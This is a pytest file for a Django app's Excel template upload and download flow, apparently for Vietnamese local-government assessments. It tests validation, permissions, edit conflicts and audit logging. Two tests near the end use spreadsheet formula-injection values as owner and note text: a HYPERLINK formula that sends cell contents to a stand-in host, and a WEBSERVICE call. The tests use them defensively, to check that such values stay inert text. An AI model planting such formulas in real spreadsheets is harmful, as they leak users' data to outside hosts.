"""The Excel round trip: download the unit's template, edit it, upload, preview, commit."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from chiso.accounts.models import AuditEvent
from chiso.collection.models import Assessment, Entry
from chiso.collection.services import EntryChange
from chiso.collection.workflow import save_self_inputs
from chiso.exports.template import DATA_SHEET, HEADER_ROW, HEADERS, META_SHEET
from chiso.exports.tests.cast import Cast
from chiso.scoring.models import ScoreSnapshot

VALUE = HEADERS.index("Giá trị") + 1
OWNER, DUE, NOTE = (HEADERS.index(h) + 1 for h in ("Phụ trách", "Hạn xử lý", "Minh chứng/Ghi chú"))


def download(client: Client, assessment: Assessment) -> Any:
    response = client.get(reverse("exports:template", args=[assessment.pk]))
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def row_of(sheet: Worksheet, code: str, name: str) -> int:
    for number in range(HEADER_ROW + 1, sheet.max_row + 1):
        if sheet.cell(number, 1).value == code and sheet.cell(number, 6).value == name:
            return number
    raise AssertionError(f"no row for {code}/{name}")


def put(book: Any, values: dict[tuple[str, str], Any]) -> None:
    sheet = book[DATA_SHEET]
    for (code, name), value in values.items():
        sheet.cell(row_of(sheet, code, name), VALUE, value)


def save(book: Any) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client: Client, assessment: Assessment, data: bytes, name: str = "mau.xlsx") -> Any:
    url = reverse("exports:upload", args=[assessment.pk])
    return client.post(url, {"file": io.BytesIO(data) if not name else _named(data, name)})


def _named(data: bytes, name: str) -> Any:
    handle = io.BytesIO(data)
    handle.name = name
    return handle


def commit(client: Client, assessment: Assessment, checksum: str) -> Any:
    url = reverse("exports:upload", args=[assessment.pk])
    return client.post(url, {"commit": "1", "checksum": checksum})


def state(assessment: Assessment) -> tuple[Any, ...]:
    entries = Entry.objects.filter(assessment=assessment).order_by("pk")
    return (
        [(e.self_inputs, e.owner, e.due, e.note) for e in entries],
        Assessment.objects.get(pk=assessment.pk).revision,
        AuditEvent.objects.count(),
    )


@pytest.mark.django_db(transaction=True)
def test_a_downloaded_template_edited_and_uploaded_changes_exactly_those_values(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    before = ScoreSnapshot.objects.get(assessment=cast.assessment, stage="self").total
    book = download(client, cast.assessment)
    put(
        book,
        {
            ("1.3", "count"): 20,
            ("1.2", "value"): "Không",
            ("2.1", "choice"): "Trưởng ban là Chủ tịch UBND xã",
        },
    )
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200
    shown = {(c.code, c.input, c.old, c.new) for c in response.context["changes"]}
    assert shown == {
        ("1.3", "count", 12, 20),
        ("1.2", "value", 1, 0),
        ("2.1", "choice", "pho", "chu-tich"),
    }
    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 12}

    done = commit(client, cast.assessment, response.context["preview"].checksum)
    assert done.status_code == 302
    stored = {e.indicator.code: e.self_inputs for e in cast.assessment.entries.all()}
    assert stored["1.3"] == {"count": 20}
    assert stored["1.2"] == {"value": 0}
    assert stored["2.1"] == {"choice": "chu-tich"}
    after = ScoreSnapshot.objects.get(assessment=cast.assessment, stage="self").total
    # 1.3: +8 points, 1.2: -10, 2.1: 20 → 40
    assert after == pytest.approx(before + 8 - 10 + 20)
    edits = AuditEvent.objects.filter(action="entry.update", actor=cast.reporter)
    assert edits.count() == 5 + 3


@pytest.mark.django_db
def test_the_template_is_pre_filled_locked_and_validated_for_printing(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS
    assert sheet.protection.sheet
    count_row = row_of(sheet, "1.3", "count")
    assert sheet.cell(count_row, VALUE).value == 12
    assert sheet.cell(count_row, VALUE).protection.locked is False
    assert sheet.cell(count_row, 1).protection.locked is True
    assert sheet.cell(row_of(sheet, "2.1", "choice"), VALUE).value == "Trưởng ban là Phó Chủ tịch"
    kinds = {str(v.sqref): (v.type, v.formula1) for v in sheet.data_validations.dataValidation}
    assert kinds[f"G{count_row}"] == ("whole", "0")
    assert kinds[f"G{row_of(sheet, '1.4', 'percent')}"] == ("decimal", "0")
    assert kinds[f"G{row_of(sheet, '1.2', 'value')}"] == ("list", '"Có,Không"')
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}"
    meta = dict(book[META_SHEET].iter_rows(values_only=True))
    assert meta["assessment"] == cast.assessment.pk
    assert (meta["unit"], meta["revision"]) == ("t.xa-a", 1)
    assert book[META_SHEET].sheet_state == "veryHidden"


@pytest.mark.django_db
def test_someone_who_cannot_see_the_assessment_gets_404_for_its_template(
    cast: Cast, client: Client
) -> None:
    client.force_login(cast.people["reporter-other"])
    url = reverse("exports:template", args=[cast.assessment.pk])
    assert client.get(url).status_code == 404
    missing = reverse("exports:template", args=[cast.assessment.pk + 1000])
    assert client.get(missing).status_code == 404


@pytest.mark.django_db
def test_a_leader_may_download_but_not_upload(cast: Cast, client: Client) -> None:
    client.force_login(cast.people["leader-own"])
    assert client.get(reverse("exports:template", args=[cast.assessment.pk])).status_code == 200
    assert client.get(reverse("exports:upload", args=[cast.assessment.pk])).status_code == 403


# --- bad input: a clear message, and nothing changes ----------------------------------------


def refused_rows(client: Client, cast: Cast, book: Any) -> tuple[list[Any], str]:
    """Upload `book`, which must be refused with row errors and change nothing: (the errors,
    the page)."""
    before = state(cast.assessment)
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 400
    assert state(cast.assessment) == before
    return list(response.context["errors"]), response.content.decode()


def refused(client: Client, cast: Cast, data: bytes, expect: str, name: str = "mau.xlsx") -> None:
    before = state(cast.assessment)
    response = upload(client, cast.assessment, data, name)
    assert response.status_code == 400
    text = response.content.decode()
    assert expect in text, text
    assert state(cast.assessment) == before


@pytest.mark.django_db
def test_a_file_that_is_not_xlsx_is_refused(cast: Cast, client: Client) -> None:
    client.force_login(cast.reporter)
    refused(client, cast, b"%PDF-1.4 not a workbook", "không phải tệp Excel", "mau.pdf")


@pytest.mark.django_db
def test_a_template_with_a_damaged_sheet_is_refused_not_a_server_error(
    cast: Cast, client: Client
) -> None:
    """The workbook opens (its directory is sound) but a sheet's data fails its checksum: the
    sheet is read only when the upload asks for it, and that failure is a 400 too."""
    client.force_login(cast.reporter)
    data = save(download(client, cast.assessment))
    info = next(
        i
        for i in zipfile.ZipFile(io.BytesIO(data)).infolist()
        if i.filename.startswith("xl/worksheets/")
    )
    damaged = data.replace(struct.pack("<I", info.CRC), struct.pack("<I", info.CRC ^ 1))
    assert damaged != data
    refused(client, cast, damaged, "Không đọc được tệp Excel")


@pytest.mark.django_db
def test_a_template_with_moved_columns_is_refused(cast: Cast, client: Client) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    sheet.protection.sheet = False
    sheet.move_range(f"A{HEADER_ROW}:J{sheet.max_row}", cols=1)
    refused(client, cast, save(book), "di chuyển hoặc đổi tên")


@pytest.mark.django_db
def test_a_renamed_column_is_refused(cast: Cast, client: Client) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    book[DATA_SHEET].cell(HEADER_ROW, VALUE, "Số liệu")
    refused(client, cast, save(book), "Cột 7 phải là “Giá trị”")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("=10*2", "ô chứa công thức"),
        ("mười hai", "không phải là số"),
        (-3, "không được âm"),
        ("Có lẽ", "chọn “Có” hoặc “Không”"),
    ],
)
def test_formulas_text_and_bad_values_in_input_cells_are_refused_with_row_and_column(
    cast: Cast, client: Client, value: Any, message: str
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    code, name = ("1.2", "value") if message.startswith("chọn") else ("1.3", "count")
    put(book, {(code, name): value})
    row = row_of(book[DATA_SHEET], code, name)
    (error,), _page = refused_rows(client, cast, book)
    assert (error.row, error.column) == (row, "Giá trị")
    assert message in error.message


@pytest.mark.django_db
def test_a_numerator_above_its_denominator_is_refused(cast: Cast, client: Client) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put(book, {("1.1", "numerator"): 150})
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 400
    assert "lớn hơn mẫu số" in response.context["errors"][0].message


@pytest.mark.django_db
def test_another_units_template_is_refused(cast: Cast, client: Client) -> None:
    client.force_login(cast.people["admin-own"])
    book = download(client, cast.other_assessment)
    client.force_login(cast.reporter)
    refused(client, cast, save(book), "mẫu của đơn vị “t.xa-b”")


@pytest.mark.django_db
def test_a_template_older_than_the_assessment_is_refused(cast: Cast, client: Client) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    save_self_inputs(cast.assessment, [EntryChange("1.3", {"count": 3})], cast.reporter)
    put(book, {("1.3", "count"): 5})
    refused(client, cast, save(book), "Hãy tải mẫu mới")


@pytest.mark.django_db
def test_a_change_saved_between_preview_and_commit_is_a_conflict(
    cast: Cast, client: Client
) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put(book, {("1.3", "count"): 5})
    preview = upload(client, cast.assessment, save(book)).context["preview"]
    save_self_inputs(cast.assessment, [EntryChange("1.2", {"value": 1})], cast.reporter)
    before = state(cast.assessment)
    response = commit(client, cast.assessment, preview.checksum)
    assert response.status_code == 409
    assert "người khác cập nhật" in response.content.decode()
    assert state(cast.assessment) == before


@pytest.mark.django_db
def test_a_commit_without_the_previewed_checksum_writes_nothing(cast: Cast, client: Client) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put(book, {("1.3", "count"): 5})
    upload(client, cast.assessment, save(book))
    before = state(cast.assessment)
    assert commit(client, cast.assessment, "0" * 64).status_code == 400
    assert state(cast.assessment) == before


# --- owner, due date and note: the columns a unit plans its work with -----------------------

PLAN = {"owner": "Phó Chủ tịch Trần Văn B", "due": dt.date(2025, 9, 30), "note": "KH 12/KH-UBND"}


def plan(cast: Cast, code: str = "1.1", **fields: Any) -> None:
    """Give a leaf an owner, due date and note through the workflow, as the web form does."""
    save_self_inputs(cast.assessment, [EntryChange(code, None, **(fields or PLAN))], cast.reporter)


def first_row(sheet: Worksheet, code: str) -> int:
    return min(
        n for n in range(HEADER_ROW + 1, sheet.max_row + 1) if sheet.cell(n, 1).value == code
    )


def put_plan(book: Any, code: str, **cells: Any) -> int:
    sheet = book[DATA_SHEET]
    number = first_row(sheet, code)
    columns = {"owner": OWNER, "due": DUE, "note": NOTE}
    for name, value in cells.items():
        sheet.cell(number, columns[name], value)
    return number


def planned(cast: Cast, code: str) -> tuple[Any, ...]:
    entry = cast.assessment.entries.get(indicator__code=code)
    return entry.owner, entry.due, entry.note


@pytest.mark.django_db
def test_owner_due_and_note_are_pre_filled_on_a_leafs_first_row_with_a_real_date(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    plan(cast)
    client.force_login(cast.reporter)
    sheet = download(client, cast.assessment)[DATA_SHEET]
    numerator, denominator = row_of(sheet, "1.1", "numerator"), row_of(sheet, "1.1", "denominator")
    assert [sheet.cell(numerator, c).value for c in (OWNER, NOTE)] == [PLAN["owner"], PLAN["note"]]
    due = sheet.cell(numerator, DUE)
    assert (due.value, due.is_date, due.number_format) == (
        dt.datetime(2025, 9, 30),
        True,
        "dd/mm/yyyy",
    )
    assert all(sheet.cell(numerator, c).protection.locked is False for c in (OWNER, DUE, NOTE))
    assert [sheet.cell(denominator, c).value for c in (OWNER, DUE, NOTE)] == [None] * 3
    assert all(sheet.cell(denominator, c).protection.locked is True for c in (OWNER, DUE, NOTE))
    (dates,) = [v for v in sheet.data_validations.dataValidation if v.type == "custom"]
    covered = {str(r) for r in dates.sqref.ranges}
    letter = sheet.cell(1, DUE).column_letter
    assert f"{letter}{numerator}" in covered and f"{letter}{denominator}" not in covered
    assert f"{letter}{first_row(sheet, '2.1')}" in covered
    # A date between 2000 and 2100, or a dash (clears it); relative to the range's first cell.
    top = min(int(r[len(letter) :]) for r in covered)
    cell = f"{letter}{top}"
    dashes = ",".join(f'TRIM({cell})="{mark}"' for mark in ("-", "–", "—"))
    assert dates.formula1 == f"OR({dashes},AND(ISNUMBER({cell}),{cell}>=36526,{cell}<=73415))"
    assert (dates.allow_blank, dates.showErrorMessage) == (True, True)


@pytest.mark.django_db
def test_owner_due_and_note_filled_in_the_template_are_saved_with_an_audit_row(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    note = "Biên bản họp 03/9\nhttps://xa-a.example/minh-chung"
    put_plan(book, "1.3", owner="Bà Nguyễn Thị C", due=dt.datetime(2025, 10, 15), note=note)
    put_plan(book, "1.2", due="1/12/2025")  # typed as text, as the tracking sheet accepts
    put(book, {("1.3", "count"): 20})
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200, response.context.get("errors")
    shown = {(c.code, c.input, c.old, c.new) for c in response.context["changes"]}
    assert shown == {
        ("1.3", "count", 12, 20),
        ("1.3", "owner", None, "Bà Nguyễn Thị C"),
        ("1.3", "due", None, "15/10/2025"),
        ("1.3", "note", None, note),
        ("1.2", "due", None, "01/12/2025"),
    }
    assert planned(cast, "1.3") == ("", None, "")  # nothing written by the preview

    done = commit(client, cast.assessment, response.context["preview"].checksum)
    assert done.status_code == 302
    assert planned(cast, "1.3") == ("Bà Nguyễn Thị C", dt.date(2025, 10, 15), note)
    assert planned(cast, "1.2") == ("", dt.date(2025, 12, 1), "")
    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 20}
    entry = cast.assessment.entries.get(indicator__code="1.3")
    audit = AuditEvent.objects.filter(action="entry.update", object_id=str(entry.pk)).latest("id")
    assert audit.actor == cast.reporter
    assert audit.new == {
        "self_inputs": {"count": 20},
        "owner": "Bà Nguyễn Thị C",
        "due": "2025-10-15",
        "note": note,
    }
    assert audit.old == {"self_inputs": {"count": 12}, "owner": "", "due": None, "note": ""}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("due", "message"),
    [
        ("31/02/2025", "'31/02/2025' không phải ngày dạng dd/mm/yyyy"),
        ("cuối năm", "'cuối năm' không phải ngày dạng dd/mm/yyyy"),
        ("15/13/2025", "'15/13/2025' không phải ngày dạng dd/mm/yyyy"),
    ],
)
def test_a_bad_due_date_is_refused_naming_row_and_column_and_nothing_is_written(
    cast: Cast, client: Client, due: Any, message: str
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    number = put_plan(book, "1.3", owner="Bà Nguyễn Thị C", due=due)
    put_plan(book, "1.2", owner="Ông Lê Văn D", due="30/9/2025")  # a good row is not kept
    put(book, {("1.4", "percent"): 70})
    (error,), page = refused_rows(client, cast, book)
    assert (error.row, error.column, error.message) == (number, "Hạn xử lý", message)
    assert str(error) == f'Dòng {number}, cột "Hạn xử lý": {message}'
    assert "Hạn xử lý" in page


@pytest.mark.django_db
def test_plan_cells_on_a_leafs_other_rows_and_overlong_owners_are_refused(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    denominator = row_of(sheet, "1.1", "denominator")
    sheet.cell(denominator, NOTE, "ghi ở dòng mẫu số")
    too_long = ("Phòng Văn hoá - Xã hội " * 12).strip()  # 275 characters
    long_owner = put_plan(book, "1.3", owner=too_long)
    errors, _page = refused_rows(client, cast, book)
    assert {(e.row, e.column, e.message) for e in errors} == {
        (denominator, "Minh chứng/Ghi chú", "chỉ nhập ở dòng đầu tiên của chỉ tiêu 1.1"),
        (long_owner, "Phụ trách", "dài 275 ký tự, tối đa 255"),
    }


@pytest.mark.django_db
def test_blank_owner_due_and_note_cells_keep_what_is_stored(cast: Cast, client: Client) -> None:
    cast.fill()
    plan(cast)
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put_plan(book, "1.1", owner=None, due=None, note="   ")
    put(book, {("1.3", "count"): 7})
    response = upload(client, cast.assessment, save(book))
    assert [(c.code, c.input) for c in response.context["changes"]] == [("1.3", "count")]
    assert commit(client, cast.assessment, response.context["preview"].checksum).status_code == 302
    assert planned(cast, "1.1") == (PLAN["owner"], PLAN["due"], PLAN["note"])
    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 7}


@pytest.mark.django_db
def test_a_dash_in_owner_due_or_note_clears_it_and_the_preview_says_so(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    plan(cast)
    plan(cast, "1.3", owner="Văn phòng", due=dt.date(2025, 12, 31), note="Giữ nguyên")
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put_plan(book, "1.1", owner="-", due=" – ", note="—")
    put_plan(book, "1.3", due="-")
    put_plan(book, "2.1", owner="-")  # nothing stored there: nothing to clear
    response = upload(client, cast.assessment, save(book))
    shown = {(c.code, c.input, c.old, c.new) for c in response.context["changes"]}
    assert shown == {
        ("1.1", "owner", PLAN["owner"], None),
        ("1.1", "due", "30/09/2025", None),
        ("1.1", "note", PLAN["note"], None),
        ("1.3", "due", "31/12/2025", None),
    }
    assert commit(client, cast.assessment, response.context["preview"].checksum).status_code == 302
    assert planned(cast, "1.1") == ("", None, "")
    assert planned(cast, "1.3") == ("Văn phòng", None, "Giữ nguyên")
    assert planned(cast, "2.1")[0] in ("", None)


@pytest.mark.django_db
def test_a_template_made_before_the_plan_columns_still_uploads_and_keeps_them(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    plan(cast)
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    sheet.delete_cols(OWNER, 3)  # the seven columns of a template from before
    assert [c.value for c in sheet[HEADER_ROW]] == HEADERS[:VALUE]
    put(book, {("1.3", "count"): 15})
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200, response.context.get("errors")
    assert [(c.code, c.old, c.new) for c in response.context["changes"]] == [("1.3", 12, 15)]
    assert commit(client, cast.assessment, response.context["preview"].checksum).status_code == 302
    assert cast.assessment.entries.get(indicator__code="1.3").self_inputs == {"count": 15}
    assert planned(cast, "1.1") == (PLAN["owner"], PLAN["due"], PLAN["note"])


@pytest.mark.django_db
def test_a_template_with_only_some_of_the_plan_columns_is_refused(
    cast: Cast, client: Client
) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    book[DATA_SHEET].delete_cols(DUE, 2)
    refused(client, cast, save(book), "Cột 9 phải là “Hạn xử lý”, tệp có “”")


@pytest.mark.django_db
def test_an_owner_typed_as_a_formula_is_exported_as_text_and_reads_back_unchanged(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    owner, note = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm")', "@SUM(A1:A9)"
    plan(cast, owner=owner, note=note, due=dt.date(2025, 9, 30))
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    sheet = book[DATA_SHEET]
    number = first_row(sheet, "1.1")
    for col, text in ((OWNER, owner), (NOTE, note)):
        cell = sheet.cell(number, col)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200, response.context.get("errors")
    assert response.context["changes"] == []
    assert planned(cast, "1.1") == (owner, dt.date(2025, 9, 30), note)


@pytest.mark.django_db
def test_nobody_outside_the_unit_can_upload_owners_into_its_assessment(
    cast: Cast, client: Client
) -> None:
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put_plan(book, "1.3", owner="Người lạ", due="30/9/2025")
    data = save(book)
    before = state(cast.assessment)
    client.force_login(cast.people["reporter-other"])
    assert upload(client, cast.assessment, data).status_code == 404
    client.logout()
    anonymous = upload(client, cast.assessment, data)
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    assert state(cast.assessment) == before


@pytest.mark.django_db
def test_a_formula_typed_as_owner_is_kept_as_text_and_one_typed_as_due_date_is_refused(
    cast: Cast, client: Client
) -> None:
    cast.fill()
    client.force_login(cast.reporter)
    book = download(client, cast.assessment)
    put_plan(book, "1.3", owner='=WEBSERVICE("http://x.invalid/")')
    response = upload(client, cast.assessment, save(book))
    assert response.status_code == 200, response.context.get("errors")
    shown = [(c.code, c.input, c.new) for c in response.context["changes"]]
    assert shown == [("1.3", "owner", '=WEBSERVICE("http://x.invalid/")')]
    number = put_plan(book, "1.2", due="=TODAY()")
    errors, _page = refused_rows(client, cast, book)
    assert [(e.row, e.column) for e in errors] == [(number, "Hạn xử lý")]
